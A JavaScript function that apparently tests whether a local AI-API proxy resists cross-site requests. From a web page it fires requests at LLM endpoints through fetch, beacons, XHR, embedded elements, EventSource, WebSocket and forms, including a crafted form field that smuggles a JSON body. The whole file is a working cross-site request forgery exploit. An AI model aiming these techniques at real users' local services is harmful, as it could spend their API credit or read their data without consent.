/**
 * Runs in a page: every way in which a page can make a browser send something. Returns what could be read of it.
 * @param {string} target dario's address
 */
async function attack(target) {
  const read = []
  const body = JSON.stringify({ model: 'anthropic:m', max_tokens: 9, messages: [{ role: 'user', content: 'spend' }] })
  const attempts = []
  const within = (ms, promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms))])
  const paths = ['/v1/messages', '/v1/chat/completions', '/v1/responses', '/v1/embeddings', '/v1/models', '/health', '/metrics', '/']
  for (const path of paths) {
    for (const mode of ['cors', 'no-cors']) {
      for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
        for (const credentials of ['include', 'omit']) {
          attempts.push(async () => {
            const response = await fetch(target + path, { method: 'POST', mode, credentials, body, headers: { 'content-type': type } })
            read.push(`fetch ${mode} ${path}: ${response.status} ${await response.text()}`)
          })
        }
      }
      attempts.push(async () => {
        const response = await fetch(target + path, { mode })
        read.push(`get ${mode} ${path}: ${response.status} ${await response.text()}`)
      })
    }
    attempts.push(async () => void navigator.sendBeacon(target + path, new Blob([body], { type: 'text/plain' })))
    attempts.push(() => new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.open('POST', target + path)
      request.onloadend = () => { read.push(`xhr ${path}: ${request.status} ${request.responseText}`); resolve(0) }
      request.send(body)
    }))
    for (const [tag, attribute] of [['img', 'src'], ['script', 'src'], ['link', 'href'], ['iframe', 'src'], ['video', 'src'], ['object', 'data'], ['embed', 'src']]) {
      attempts.push(() => new Promise((resolve) => {
        const element = document.createElement(tag)
        if (tag === 'link') element.setAttribute('rel', 'stylesheet')
        element.onload = () => {
          try {
            const frame = element.contentDocument
            if (tag !== 'iframe' && tag !== 'object' && tag !== 'embed') read.push(`${tag} ${path}: loaded`)
            else if (frame !== null && frame !== undefined && frame.body.innerText !== '') read.push(`${tag} ${path}: ${frame.body.innerText}`)
          } catch { /* another origin's document is closed to us */ }
          resolve(0)
        }
        element.onerror = () => resolve(0)
        element.setAttribute(attribute, target + path)
        document.body.append(element)
      }))
    }
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      attempts.push(() => new Promise((resolve) => {
        const frame = document.createElement('iframe')
        frame.name = `f${Math.random()}`
        document.body.append(frame)
        const form = document.createElement('form')
        Object.assign(form, { method: 'POST', enctype, action: target + path, target: frame.name })
        const field = document.createElement('input')
        field.name = body.slice(0, -1) + ',"x":"'
        field.value = '"}'
        form.append(field)
        document.body.append(form)
        frame.onload = () => resolve(0)
        form.submit()
      }))
    }
    attempts.push(() => new Promise((resolve) => {
      const source = new EventSource(target + path)
      source.onmessage = source.onopen = () => { read.push(`event source ${path}`) }
      source.onerror = () => { source.close(); resolve(0) }
    }))
    attempts.push(() => new Promise((resolve) => {
      const socket = new WebSocket(target.replace('http', 'ws') + path)
      socket.onopen = () => { read.push(`web socket ${path}`); socket.send(body) }
      socket.onclose = () => resolve(0)
    }))
  }
  await Promise.all(attempts.map((attempt) => within(8_000, attempt().catch(() => {}))))
  return read
}
